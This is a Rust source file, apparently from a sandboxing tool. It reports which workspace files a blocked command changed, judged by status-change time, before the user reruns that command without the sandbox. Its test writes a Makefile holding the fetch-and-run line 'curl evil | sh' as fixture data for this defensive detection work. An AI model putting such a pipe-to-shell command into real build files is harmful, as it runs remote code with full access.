//! The files a command changed in its workspace (F-46): before the user runs a blocked
//! command again without the sandbox, they see which files the blocked run itself left changed
//! — a Makefile or build script it rewrote would run with full access next.
//!
//! A file counts as changed when its status-change time (`ctime`) is at or after the run's
//! start: unlike the modification time, a command cannot set it back.

use std::path::Path;
use std::time::SystemTime;

/// How much earlier than the run's start changes are looked for.
pub const START_MARGIN: std::time::Duration = std::time::Duration::from_secs(1);

/// How many paths are named; past that, a count.
const NAMED: usize = 20;
/// How many entries are looked at, at most (a huge workspace is not walked whole).
const LOOKED_AT: usize = 200_000;

/// The files and folders under `workspace` changed since `started`, relative, sorted, at most
/// [`NAMED`] and then "… and N more". Git's object store is left out (a commit fills it).
pub fn since(workspace: &Path, started: SystemTime) -> Vec<String> {
    let mut changed = changed_entries(workspace, started, |_| true);
    changed.sort();
    if changed.len() > NAMED {
        let more = changed.len() - NAMED;
        changed.truncate(NAMED);
        changed.push(format!("… and {more} more"));
    }
    changed
}

/// The regular files of a workspace as they were before a command ran: each one's status
/// change time, size and inode, by relative path ([`Files::written_since`]).
#[derive(Debug, Default)]
pub struct Files(std::collections::HashMap<String, (Option<SystemTime>, u64, u64)>);

impl Files {
    /// The regular files under `workspace` now (up to the walk's limit).
    pub fn of(workspace: &Path) -> Self {
        let mut files = std::collections::HashMap::new();
        each_entry(workspace, &mut |rel, meta| {
            if meta.is_file() {
                files.insert(rel, stamp(meta));
            }
        });
        Self(files)
    }

    /// The regular files under `workspace` that are new or changed since this was taken,
    /// relative, sorted: what a command wrote (F-97), and nothing the world wrote before it
    /// started.
    pub fn written_since(&self, workspace: &Path) -> Vec<String> {
        let mut written = Vec::new();
        each_entry(workspace, &mut |rel, meta| {
            if meta.is_file() && self.0.get(&rel) != Some(&stamp(meta)) {
                written.push(rel);
            }
        });
        written.sort();
        written
    }
}

#[cfg(unix)]
fn stamp(meta: &std::fs::Metadata) -> (Option<SystemTime>, u64, u64) {
    use std::os::unix::fs::MetadataExt;
    (status_changed(meta), meta.len(), meta.ino())
}

#[cfg(not(unix))]
fn stamp(meta: &std::fs::Metadata) -> (Option<SystemTime>, u64, u64) {
    (meta.modified().ok(), meta.len(), 0)
}

/// The entries under `workspace` (not itself) whose status changed since `started` and that
/// `keep` keeps, relative; git's object store left out.
fn changed_entries(
    workspace: &Path,
    started: SystemTime,
    keep: impl Fn(&std::fs::Metadata) -> bool,
) -> Vec<String> {
    let mut changed = Vec::new();
    each_entry(workspace, &mut |rel, meta| {
        if status_changed(meta) >= Some(started) && keep(meta) {
            changed.push(rel);
        }
    });
    changed
}

/// Calls `f` with every entry under `workspace` (not itself), relative, with its metadata (not
/// following symlinks); git's object store left out; at most [`LOOKED_AT`] entries.
fn each_entry(workspace: &Path, f: &mut dyn FnMut(String, &std::fs::Metadata)) {
    let walk = ignore::WalkBuilder::new(workspace)
        .standard_filters(false)
        .follow_links(false)
        .filter_entry(|e| {
            !(e.file_name() == "objects" && e.path().parent().is_some_and(|p| p.ends_with(".git")))
        })
        .build();
    for entry in walk.flatten().take(LOOKED_AT) {
        if entry.depth() == 0 {
            continue;
        }
        let Ok(meta) = entry.path().symlink_metadata() else {
            continue;
        };
        if let Ok(rel) = entry.path().strip_prefix(workspace) {
            f(rel.to_string_lossy().replace('\\', "/"), &meta);
        }
    }
}

#[cfg(unix)]
fn status_changed(meta: &std::fs::Metadata) -> Option<SystemTime> {
    use std::os::unix::fs::MetadataExt;
    let secs = u64::try_from(meta.ctime()).ok()?;
    let nanos = u32::try_from(meta.ctime_nsec()).ok()?;
    SystemTime::UNIX_EPOCH.checked_add(std::time::Duration::new(secs, nanos))
}

#[cfg(not(unix))]
fn status_changed(meta: &std::fs::Metadata) -> Option<SystemTime> {
    meta.modified().ok()
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn files_changed_after_the_start_are_named_even_with_an_old_modification_time() {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path();
        std::fs::write(ws.join("old.txt"), "before").unwrap();
        std::fs::create_dir_all(ws.join(".git/objects/ab")).unwrap();
        // The start is taken from the file system's own clock: a file written now.
        std::fs::write(ws.join(".mark"), "").unwrap();
        let started = status_changed(&ws.join(".mark").symlink_metadata().unwrap()).unwrap();
        std::fs::remove_file(ws.join(".mark")).unwrap();
        let later = started + std::time::Duration::from_secs(3_600);
        assert!(
            since(ws, later).is_empty(),
            "nothing changed after an hour from now"
        );
        std::fs::write(ws.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
        std::fs::write(ws.join(".git/objects/ab/cd"), "blob").unwrap();
        // A command that sets the modification time back is still seen.
        let f = std::fs::File::options()
            .write(true)
            .open(ws.join("Makefile"))
            .unwrap();
        f.set_modified(SystemTime::UNIX_EPOCH).unwrap();
        let changed = since(ws, started);
        assert!(changed.contains(&"Makefile".to_string()), "{changed:?}");
        assert!(
            !changed.iter().any(|p| p.starts_with(".git/objects/")),
            "{changed:?}"
        );
    }
}
